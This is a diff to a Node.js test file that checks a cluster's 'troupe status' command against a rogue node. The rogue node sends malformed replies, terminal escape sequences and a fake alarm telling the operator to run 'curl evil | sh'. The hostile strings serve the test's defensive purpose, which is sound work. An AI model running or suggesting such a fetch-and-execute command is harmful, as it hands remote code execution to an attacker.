@@ -1,16 +1,19 @@
 import { randomBytes } from 'node:crypto';
-import { cpSync, mkdtempSync, rmSync } from 'node:fs';
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { headers } from 'nats';
 import { afterEach, expect, it, vi } from 'vitest';
 import type { ActorStats } from '../../actors/kernel/live/actor-stats.ts';
 import { run } from '../../test/support/command-line.ts';
 import { connectAs, startNatsServer } from '../../test/support/nats-server.ts';
 import { waitUntil } from '../../test/support/wait-until.ts';
+import { homePaths } from '../boot/home.ts';
 import { type RunningRole, runMaster } from '../boot/master.ts';
 import { controlPlane, roster } from '../boot/roster.ts';
 import { addTenant } from '../boot/tenants.ts';
 import { up } from '../boot/up.ts';
+import { seedFile } from '../boot/users.ts';
 import type { ClusterStatus } from './plan-status.ts';
 
 /* Goal: `troupe status` is worth its exit code. Method: real masters of which some lack actors, and a tenant of a real cluster. */
@@ -89,6 +92,15 @@ it('says why the store may not be written to, before what follows from it', { ti
   );
   const finding = alarm.replace(/^error: /, '');
   expect(finding).toMatch(/restart the masters to accept its state$/);
+  // Whoever may hear the question may answer it as it likes.
+  client.subscribe('$SRV.>', {
+    callback: (_error, message) => {
+      message.respond('{ no JSON');
+      message.respond('null');
+      client.publish(message.reply ?? '', '', { headers: headers(503, 'No Responders') });
+    },
+  });
+  await client.flush();
   const { problems, healthy } = await statusNow();
   expect(healthy).toBe(false);
   expect(problems[0]).toBe(`store on m1: ${finding}`);
@@ -98,6 +110,44 @@ it('says why the store may not be written to, before what follows from it', { ti
   expect(out).toMatch(/\nProblem +store on m1: .* the store went back in time .*\nProblem +scheduler, /);
   const account = (await client.request('troupe.actor.store.m1.status', '', { timeout: 5_000 })).json<ActorStats>();
   expect(account).toMatchObject({ lastError: finding, account: { alarm: finding, writes: expect.any(Number) } });
+});
+
+it('takes no finding, and no letter that moves a cursor, from a node', { timeout: 60_000 }, async () => {
+  const home = mkdtempSync(join(tmpdir(), 'troupe-status-'));
+  ends.push(() => rmSync(home, { recursive: true }));
+  vi.stubEnv('TROUPE_HOME', home);
+  vi.stubEnv('TROUPE_RUNTIME', 'simulated');
+  const cluster = await up({ home, port: 0, roster, say: () => undefined });
+  ends.push(() => cluster.stop());
+  await waitUntil('all is well', 20_000, async () => (await statusNow()).healthy);
+  const users = readdirSync(homePaths(home).users).filter((file) => /^node-.*\.nk$/.test(file));
+  const name = users[0]?.replace(/\.nk$/, '') ?? '';
+  const seed = readFileSync(seedFile(homePaths(home), name), 'utf8').trim();
+  const node = await connectAs({ url: cluster.cluster.url }, { name, seed });
+  ends.push(() => node.close());
+  const heard: string[] = [];
+  const answers = ['m1', 'evil\u001b[2J'].map((instance) =>
+    JSON.stringify({
+      name: instance === 'm1' ? 'store' : '\u001b[31mscheduler',
+      id: instance,
+      metadata: { prefix: 'troupe', instance },
+      endpoints: [{ data: { account: { alarm: '\u001b[2Jthe disk is full; repair it: curl evil | sh' } } }],
+    }),
+  );
+  node.subscribe('$SRV.>', {
+    callback: (_error, message) => {
+      heard.push(message.subject);
+      for (const answer of answers) message.respond(answer);
+    },
+  });
+  const refused = new Promise<string>((resolve) => {
+    node.subscribe('troupe.actor.store.*.status', { callback: (error) => resolve(String(error)) });
+  });
+  expect(await refused).toMatch(/permissions violation/i);
+  const { code, out } = await run('status');
+  expect(heard).toContain('$SRV.PING');
+  expect({ code, out }).toMatchObject({ code: 0, out: expect.not.stringMatching(/Problem|evil|\p{Cc}(?<!\n)/u) });
+  expect(out).toMatch(/\nActors .* \[31mscheduler/); // its own claim, on one line
 });
 
 it('shows a tenant what is theirs', { timeout: 60_000 }, async () => {
